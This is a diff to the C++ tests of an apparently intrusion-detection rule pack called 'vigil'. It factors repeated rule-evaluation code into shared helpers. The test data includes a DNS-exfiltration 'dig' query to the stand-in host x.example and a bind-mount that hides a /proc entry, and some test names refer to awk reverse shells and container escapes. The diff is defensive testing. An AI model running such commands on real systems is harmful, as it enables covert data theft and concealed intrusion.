@@ -40,6 +40,27 @@ std::string_view field(const sigma::RuleEvent& r, Field f) {
                                                 : std::string_view("<absent>");
 }
 
+// The ids of the rules of `pack` that `e` matches.
+std::vector<std::string> rule_ids(const RulePack& pack, const Event& e, const ProcessTable& table,
+                                  const ExecLinks& links = {}) {
+  std::vector<const Indicator*> hits;
+  pack.evaluate(e, table, hits, links);
+  std::vector<std::string> ids;
+  for (const auto* h : hits) ids.emplace_back(h->id);
+  return ids;
+}
+
+// The ids of vigil's built-in rules an exec of `exe` with `args` matches.
+std::vector<std::string> exec_rule_ids(std::string exe,
+                                       std::initializer_list<std::string_view> args) {
+  static const auto pack = [] {
+    sigma::LoadReport report;
+    return RulePack::load(RulePackOptions{}, report);
+  }();
+  const ProcessTable table(100, "");
+  return rule_ids(*pack, exec_event(40, 1, std::move(exe), args), table);
+}
+
 TEST(RuleEvent, ExecMapsProcessAndParentFields) {
   ProcessTable table(100, "");
   auto parent = exec_event(10, 1, "/usr/sbin/nginx", {"nginx", "-g", "daemon off;"});
@@ -284,11 +305,7 @@ TEST(RulePack, AccountToolsAreLetThroughOnlyFromWhereTheSystemKeepsThem) {
     Event e = exec_event(30, 1, std::move(exe), {"tool"});
     e.type = EventType::kFile;
     e.data = FileData{.op = op, .path = path};
-    std::vector<const Indicator*> hits;
-    pack->evaluate(e, table, hits);
-    std::vector<std::string> ids;
-    for (const auto* h : hits) ids.emplace_back(h->id);
-    return ids;
+    return rule_ids(*pack, e, table);
   };
   using V = std::vector<std::string>;
   EXPECT_EQ(ids_for("/usr/sbin/useradd", VIGIL_FILE_WRITE, "/etc/passwd"), V{});
@@ -341,17 +358,7 @@ TEST(RulePack, EverySelectionOfVigilsRulesIsUsedByItsCondition) {
 }
 
 TEST(RulePack, DnsExfiltrationAndAwkReverseShells) {
-  sigma::LoadReport report;
-  auto pack = RulePack::load(RulePackOptions{}, report);
-  ProcessTable table(100, "");
-  auto ids_for = [&](std::string exe, std::initializer_list<std::string_view> args) {
-    const Event e = exec_event(40, 1, std::move(exe), args);
-    std::vector<const Indicator*> hits;
-    pack->evaluate(e, table, hits);
-    std::vector<std::string> ids;
-    for (const auto* h : hits) ids.emplace_back(h->id);
-    return ids;
-  };
+  const auto ids_for = exec_rule_ids;
   using V = std::vector<std::string>;
   EXPECT_EQ(ids_for("/usr/bin/dig", {"dig", "+short", "6c6f63616c686f73740a7667.x.example", "TXT"}),
             V{"dns-exfil-long-label"});
@@ -366,17 +373,7 @@ TEST(RulePack, DnsExfiltrationAndAwkReverseShells) {
 }
 
 TEST(RulePack, ProcessHidingAndContainerEscapes) {
-  sigma::LoadReport report;
-  auto pack = RulePack::load(RulePackOptions{}, report);
-  ProcessTable table(100, "");
-  auto ids_for = [&](std::string exe, std::initializer_list<std::string_view> args) {
-    const Event e = exec_event(41, 1, std::move(exe), args);
-    std::vector<const Indicator*> hits;
-    pack->evaluate(e, table, hits);
-    std::vector<std::string> ids;
-    for (const auto* h : hits) ids.emplace_back(h->id);
-    return ids;
-  };
+  const auto ids_for = exec_rule_ids;
   using V = std::vector<std::string>;
   EXPECT_EQ(ids_for("/usr/bin/mount", {"mount", "--bind", "/tmp/empty", "/proc/4242"}),
             V{"proc-bind-mount-hide"});
@@ -414,11 +411,7 @@ TEST(PipeLinks, EitherOrderAndFeedersThatAreAlsoShells) {
                  std::initializer_list<std::string_view> args, double now) {
     Event e = exec_event(pid, 1, std::move(exe), args);
     const ExecLinks links = d.exec_links(e, table, now);
-    std::vector<const Indicator*> hits;
-    pack->evaluate(e, table, hits, links);
-    std::vector<std::string> ids;
-    for (const auto* h : hits) ids.emplace_back(h->id);
-    return std::pair{ids, links};
+    return std::pair{rule_ids(*pack, e, table, links), links};
   };
   using V = std::vector<std::string>;
   fd(201, 1);  // the feeder's stdout
